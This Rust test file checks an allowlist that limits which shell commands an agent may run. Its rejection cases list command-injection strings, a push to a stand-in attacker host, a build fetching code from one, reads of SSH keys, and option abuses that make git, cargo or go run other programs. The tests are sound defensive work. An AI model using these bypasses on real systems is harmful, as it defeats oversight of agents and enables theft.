//! What patterns cover, and what a shell and git make of it.

use std::{path::Path, process::Command, sync::LazyLock};

use proptest::prelude::*;
use tempfile::TempDir;

use super::*;

fn pattern(text: &str) -> CommandPattern {
    CommandPattern::parse(text).unwrap()
}

fn runs(patterns: &[&str], command: &str) -> bool {
    plain(command).is_some_and(|words| patterns.iter().any(|text| pattern(text).matches(&words)))
}

/// A repository with one file, whose only line is `foo`.
static REPOSITORY: LazyLock<TempDir> = LazyLock::new(|| {
    let folder = tempfile::tempdir().unwrap();
    std::fs::write(folder.path().join("a"), "foo\n").unwrap();
    for arguments in [&["init", "-q"][..], &["add", "a"]] {
        assert!(git(folder.path(), arguments), "{arguments:?}");
    }
    folder
});

fn git(folder: &Path, arguments: &[&str]) -> bool {
    let ran = Command::new("git").args(arguments).current_dir(folder).output().unwrap();
    ran.status.success()
}

#[test]
fn trusted_commands_are_compared_by_words() {
    let patterns = ["git diff *", "cargo test", "npm run * --silent"];
    for command in [
        "git diff",
        "  git diff --stat HEAD~1 ",
        "git diff -- 'a b.txt' \"c d\"",
        "git 'diff' x",
        "cargo test",
        "npm run lint --silent",
        "/bin/bash -lc 'git diff --stat'",
        "sh -c \"cargo test\"",
    ] {
        assert!(runs(&patterns, command), "{command}");
    }
    for command in [
        "git",
        "git difftool",
        "git -c core.pager=x diff",
        "git push; git diff",
        "git diff; rm x",
        "git diff && rm x",
        "git diff | sh",
        "git diff > x",
        "git diff < x",
        "git diff & rm x",
        "git diff\nrm x",
        "git diff $(rm x)",
        "git diff `rm x`",
        "git diff \"$(rm x)\"",
        "git diff $HOME",
        "git diff ~/x",
        "git diff *",
        "git diff {a,b}",
        "git diff \\; rm x",
        "git diff 'a",
        "(git diff)",
        "! git diff",
        "GIT_EXTERNAL_DIFF=x git diff",
        "cargo test x",
        "npm run a b --silent",
        "bash -lc 'git diff; rm x'",
        "bash -lc 'git diff' x",
        "bash -ic 'git diff'",
        "tools/bash -c 'git diff'",
        "./bash -lc 'git diff'",
        "/tmp/sh -c 'git diff'",
        "../../bin/sh -c 'git diff'",
        "bash -c \"bash -c 'git diff'\"",
        "",
        "#git diff",
    ] {
        assert!(!runs(&patterns, command), "{command}");
    }
}

/// What each of these does beyond what its pattern says, it does with a program, a file or a folder of the agent's choice.
#[test]
fn no_argument_makes_a_trusted_program_do_something_else() {
    for (trusted, commands) in [
        (
            "git diff *",
            &[
                "git diff --ext-diff",
                "git diff --output=x",
                "git diff --outp=x",
                "git diff --no-index a b",
                "git diff /dev/null /home/ann/.ssh/id_ed25519",
                "git diff -- /dev/null ../secret",
                "git diff a/../../secret b",
                "git diff '~/x' y",
                "git diff -pO x",
                "git diff -Ox",
                "git diff --stat=/x",
            ][..],
        ),
        ("git log *", &["git log -L :x:../y", "git log --output x", "git log -n5O"]),
        ("git blame *", &["git blame --contents /home/ann/x a", "git blame -S x a", "git blame ../x"]),
        (
            "git grep *",
            &["git grep -nO'id>x;true' foo", "git grep -Oid foo", "git grep --open-files foo", "git grep -f x"],
        ),
        (
            "cargo test *",
            &[
                "cargo test --config build.rustc-wrapper=x",
                "cargo test --manifest-path=x/Cargo.toml",
                "cargo test --target x.json",
                "cargo test -qZ x",
                "cargo test -- --logfile x",
            ],
        ),
        ("cargo clippy *", &["cargo clippy --fix"]),
        ("cargo doc *", &["cargo doc --open"]),
        (
            "go test *",
            &[
                "go test -exec=x ./...",
                "go test -toolexec x",
                "go test '-ldflags=-linkmode=external -extld=./x'",
                "go test -c",
                "go test -o x",
                "go test -coverprofile=x",
            ],
        ),
        ("go vet *", &["go vet -vettool=./x"]),
        (
            "make test *",
            &["make test -f x", "make test -kf x", "make test SHELL=x", "make test --eval x", "make test '$(shell x)'"],
        ),
        ("npm test *", &["npm test --script-shell=x", "npm test -sC x", "npm test -- --watch", "npm test '$(x)'"]),
        ("pnpm test *", &["pnpm test --config.script-shell=x"]),
        ("just test *", &["just test 'a; x'", "just test x=y", "just test -f x"]),
        (
            "python3 -m pytest *",
            &[
                "python3 -m pytest -p x",
                "python3 -m pytest -qp x",
                "python3 -m pytest -vc x.ini",
                "python3 -m pytest --basetemp=x",
                "python3 -m pytest @x",
            ],
        ),
        ("rg *", &["rg --pre=./x foo", "rg --pre ./x foo", "rg foo /home/ann"]),
        ("sort *", &["sort -o x y", "sort --compress-program=./x y", "sort /home/ann/x"]),
        ("ninja *", &["ninja -f x", "ninja -C x"]),
        ("grep *", &["grep -R x .", "grep --dereference-recursive x .", "grep -rf x ."]),
        ("git grep *", &["git grep x -- ':(top)s'", "git grep x -- :/s", "git grep x -- :^s"]),
        ("git diff *", &["git diff ':(top)'"]),
        (
            "git push origin *",
            &[
                "git push origin a:b",
                "git push origin +a",
                "git push origin git@evil.example:x",
                "git push origin evil.example/x",
                "git push origin --receive-pack=x",
            ],
        ),
        ("git fetch origin *", &["git fetch origin evil.example.com:x", "git fetch origin -f"]),
        ("go build *", &["go build evil.example.com/cmd@latest", "go build evil.example.com/cmd"]),
        ("echo *", &["echo https://a.example/x", "echo -e x"]),
    ] {
        for command in commands {
            assert!(!runs(&[trusted], command), "{trusted}: {command}");
        }
    }
}

#[test]
fn harmless_arguments_are_covered() {
    for (trusted, commands) in [
        (
            "git diff *",
            &[
                "git diff -p",
                "git diff -U10 HEAD~1..HEAD -- src/a.rs 'b c'",
                "git diff main..origin/x --stat=80",
                "git diff --cached --name-only",
            ][..],
        ),
        ("git log *", &["git log --oneline -5", "git log --since '2 weeks ago' --author=ann", "git log -n 3 -p a.rs"]),
        ("git show *", &["git show HEAD:src/main.rs", "git show --stat"]),
        ("git grep *", &["git grep -n 'foo|bar' -- src", "git grep -i -C3 x"]),
        ("git blame *", &["git blame -L 10,20 a.rs", "git blame -L10,20 a.rs"]),
        ("cargo test *", &["cargo test -p a --lib x::y -- --nocapture -q", "cargo test --features=a,b --release -j4"]),
        ("go test *", &["go test ./... -run X -race", "go test -run=X -count=1 ./a"]),
        ("make test *", &["make test V", "make test lint"]),
        ("npm test *", &["npm test src/a.test.ts"]),
        ("python3 -m pytest *", &["python3 -m pytest -q tests/a.py::b -k 'x and not y'"]),
        ("rg *", &["rg -n 'fn .*x' crates", "rg -t rust x"]),
        ("eslint *", &["eslint src/a.ts"]),
        ("git push origin *", &["git push origin", "git push origin main topic/x"]),
        ("/usr/bin/git log *", &["/usr/bin/git log main"]),
        ("grep *", &["grep -rn x src"]),
    ] {
        for command in commands {
            assert!(runs(&[trusted], command), "{trusted}: {command}");
        }
    }
    // Whoever names an option means it.
    assert!(runs(&["cargo test --manifest-path a/Cargo.toml *"], "cargo test --manifest-path a/Cargo.toml -q"));
    assert!(runs(&["eslint --max-warnings=0 *"], "eslint --max-warnings=0 src"));
    assert!(!runs(&["eslint --max-warnings=0 *"], "eslint --max-warnings=0 -c x.js"));
}

#[test]
fn patterns_that_would_allow_anything_are_refused() {
    for (text, error) in [
        ("", CommandPatternError::NoProgram),
        ("*", CommandPatternError::NoProgram),
        ("* diff", CommandPatternError::NoProgram),
        ("bash *", CommandPatternError::TooOpen),
        ("/usr/bin/env *", CommandPatternError::TooOpen),
        ("bash -c *", CommandPatternError::TooOpen),
        ("timeout 60 *", CommandPatternError::TooOpen),
        (". *", CommandPatternError::TooOpen),
        ("python3.12 -c *", CommandPatternError::TooOpen),
        ("git *", CommandPatternError::TooOpen),
        ("git -c *", CommandPatternError::TooOpen),
        ("git -C x diff *", CommandPatternError::TooOpen),
        ("git rebase *", CommandPatternError::TooOpen),
        ("git clone *", CommandPatternError::TooOpen),
        ("git send-email *", CommandPatternError::TooOpen),
        ("go run *", CommandPatternError::TooOpen),
        ("npm init *", CommandPatternError::TooOpen),
        ("npm install *", CommandPatternError::TooOpen),
        ("pnpm run *", CommandPatternError::TooOpen),
        ("yarn node *", CommandPatternError::TooOpen),
        ("pip3 install *", CommandPatternError::TooOpen),
        ("cargo +nightly *", CommandPatternError::TooOpen),
        ("make *", CommandPatternError::TooOpen),
        ("npm exec *", CommandPatternError::TooOpen),
        ("uv run *", CommandPatternError::TooOpen),
        ("sed -n *", CommandPatternError::TooOpen),
        ("nodejs *", CommandPatternError::TooOpen),
        ("flock x *", CommandPatternError::TooOpen),
        ("git diff; rm", CommandPatternError::NotPlain),
        ("git d*", CommandPatternError::NotPlain),
        ("A=b git", CommandPatternError::NotPlain),
    ] {
        assert_eq!(CommandPattern::parse(text), Err(error), "{text}");
    }
    // Programs that run others, reach the network or write anywhere, by names that no list of bad ones has.
    for program in [
        "npm it",
        "npm install-test",
        "npm update",
        "pnpm recursive",
        "yarn global",
        "yarn run",
        "bun x",
        "pipenv install",
        "poetry add",
        "bundle exec",
        "conda run",
        "hatch run",
        "pdm run",
        "mise exec",
        "rustup run",
        "go install",
        "go get",
        "setarch",
        "prlimit",
        "valgrind",
        "dbus-run-session",
        "unbuffer",
        "chronic",
        "tsx",
        "ts-node",
        "ipython",
        "Rscript",
        "java",
        "mvn",
        "kubectl",
        "kubectl exec",
        "cp",
        "tee",
        "mv",
        "curl",
        "wget",
        "git push",
        "git push --force",
        "git pull",
        "git fetch",
        "git remote",
        "git ls-remote",
        "git diff-files x",
        "cargo run",
        "cargo add",
        "./git diff",
        "tools/git diff",
        "unheard-of x",
        "dd",
        "gcc",
        "python3 x.py",
        "python3 -m http.server",
        "make -C x",
        "just",
    ] {
        assert_eq!(CommandPattern::parse(&format!("{program} *")), Err(CommandPatternError::TooOpen), "{program}");
    }
    assert_eq!(pattern("yarn run lint *").to_string(), "yarn run lint *");
    assert_eq!(pattern("  python3   -m pytest * ").to_string(), "python3 -m pytest *");
}

proptest! {
    /// A real shell reads the same words, and nothing else happens.
    #[test]
    fn a_shell_reads_the_same_words(command in "[ab ab.='\"$`;|&<>(){}*?~#!\\\\\n\t,:@%+^-]{1,14}") {
        if let Some(words) = words(&command) {
            let folder = tempfile::tempdir().unwrap();
            let script = format!("printf '%s\\n' {command}");
            let ran = Command::new("sh").args(["-c", &script]).current_dir(folder.path()).output().unwrap();
            let expected: String = words.iter().map(|word| format!("{word}\n")).collect();
            prop_assert_eq!(String::from_utf8_lossy(&ran.stdout), expected, "{}", command);
            prop_assert_eq!(std::fs::read_dir(folder.path()).unwrap().count(), 0);
        }
    }

    /// Of a program whose options aren't known, `*` covers neither options nor assignments nor what a shell or the program itself would read as more than a
    /// word, and nothing outside the folder.
    #[test]
    fn without_known_options_only_plain_words_are_covered(word in "[-+@a/.~=:'$;|* ]{1,6}") {
        if pattern("make x *").matches(&["make".to_owned(), "x".to_owned(), word.clone()]) {
            prop_assert!(!word.starts_with(['-', '+', '@', '/', '~']), "{}", word);
            prop_assert!(word.chars().all(|character| is_plain(character) && character != '='), "{}", word);
            prop_assert!(!word.split(['/', ':']).any(|name| name == ".."), "{}", word);
        }
    }

    /// Whatever git makes of its short options, what `*` covers starts nothing.
    #[test]
    fn git_starts_nothing_that_is_covered(letters in "[-nOiewc]{1,3}", tail in prop::option::of(Just("touch started;true"))) {
        let option = format!("-{letters}{}", tail.unwrap_or_default());
        let words = ["git", "grep", option.as_str(), "foo"];
        if pattern("git grep *").matches(&words.map(str::to_owned)) {
            git(REPOSITORY.path(), &words[1..]);
            prop_assert!(!REPOSITORY.path().join("started").exists(), "{:?}", words);
        }
    }
}
